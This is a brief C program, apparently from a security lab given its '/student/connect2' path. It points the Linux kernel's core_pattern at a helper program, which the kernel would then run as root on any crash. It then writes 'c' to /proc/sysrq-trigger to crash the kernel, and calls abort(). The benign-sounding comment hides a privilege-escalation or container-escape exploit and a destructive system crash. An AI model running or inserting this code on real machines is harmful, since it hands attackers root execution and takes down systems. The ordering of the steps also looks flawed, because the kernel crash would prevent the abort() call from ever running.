/* Sets what the kernel starts when a program dumps core, and dumps core. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <unistd.h>
int main(void)
{
    struct rlimit no = { RLIM_INFINITY, RLIM_INFINITY };
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);

    if (fd != -1 && write(fd, "|/student/connect2", 18) == 18)
        close(fd);
    fd = open("/proc/sysrq-trigger", O_WRONLY);
    if (fd != -1 && write(fd, "c", 1) == 1)
        close(fd);
    setrlimit(RLIMIT_CORE, &no);
    abort();
}
